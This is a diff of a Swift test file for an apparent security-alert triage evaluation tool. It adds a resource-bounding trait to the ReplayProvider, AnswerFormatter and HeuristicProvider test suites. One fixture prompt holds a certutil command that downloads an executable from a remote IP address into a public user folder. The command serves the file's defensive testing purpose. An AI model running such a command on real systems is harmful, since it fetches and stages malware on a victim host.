@@ -1,4 +1,5 @@
 import Foundation
+import StubTestSupport
 import Testing
 import TriageEval
 @testable import TriageEvalProviders
@@ -7,7 +8,7 @@ private func request(_ caseID: String, sample: Int = 0, prompt: String = "", out
     CompletionRequest(prompt: prompt, caseID: caseID, sample: sample, output: output)
 }
 
-@Suite("ReplayProvider")
+@Suite("ReplayProvider", .boundedResources)
 struct ReplayProviderTests {
     static let recorded = """
         {"case_id": "cert-01", "sample": 0, "response": "verdict=TP confidence=0.91 summary=download"}
@@ -87,7 +88,7 @@ struct ReplayProviderTests {
     }
 }
 
-@Suite("AnswerFormatter")
+@Suite("AnswerFormatter", .boundedResources)
 struct AnswerFormatterTests {
     static let dissectSpecs: [OutputSpec] = [
         .esqlTriage,
@@ -136,7 +137,7 @@ struct AnswerFormatterTests {
     }
 }
 
-@Suite("HeuristicProvider")
+@Suite("HeuristicProvider", .boundedResources)
 struct HeuristicProviderTests {
     static let prompt = "Security alerts to triage: Host: ws-0142 | Rules triggered: Suspicious CertUtil Commands | "
         + #"Command lines: certutil.exe -urlcache -split -f http://45.9.148.21/p.exe C:\Users\Public\p.exe | "#
